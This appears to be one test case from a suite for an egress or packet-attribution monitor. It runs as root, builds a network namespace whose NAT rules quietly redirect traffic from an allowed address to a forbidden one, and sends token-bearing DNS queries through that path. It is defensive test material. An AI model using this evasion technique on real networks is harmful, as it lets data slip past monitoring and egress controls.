#!/usr/bin/python3
# id: b25_forward_namespace
# title: a namespace of its own translates what it forwards: packets of no socket
# needs: root
# expect: detect
# why: what is forwarded belongs to nobody; the interface that leads there is the sign
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    c = subprocess.Popen(['unshare', '-n', 'sh', '-c', 'echo ready; exec sleep 30'], stdout=subprocess.PIPE); c.stdout.readline()
    near = f'ip link add bpf0 type veth peer name bpf1 netns {c.pid} && ip addr add 172.31.7.1/24 dev bpf0 && ip link set bpf0 up && sysctl -qw net.ipv4.ip_forward=1 && ip route add {ALLOW}/32 via 172.31.7.2 dev bpf0 src {myip()}'
    far = f'ip addr add 172.31.7.2/24 dev bpf1 && ip link set bpf1 up && ip route add default via 172.31.7.1 && sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.bpf1.rp_filter=0 && nft add table ip t && nft "add chain ip t p {{ type nat hook prerouting priority -100 ; }}" && nft "add chain ip t q {{ type nat hook postrouting priority 100 ; }}" && nft add rule ip t p ip daddr {ALLOW} dnat to {FORB} && nft add rule ip t q masquerade'
    try:
        subprocess.run(near, shell=True, check=True); subprocess.run(['nsenter', f'--net=/proc/{c.pid}/ns/net', 'sh', '-c', far], check=True)
        for _ in range(5): socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.2)
        time.sleep(.5)
    finally: subprocess.run(f'ip route del {ALLOW}/32; ip link del bpf0; sysctl -qw net.ipv4.ip_forward=0', shell=True); c.kill()
attempt(f, chan=('dns', 'pkt'))
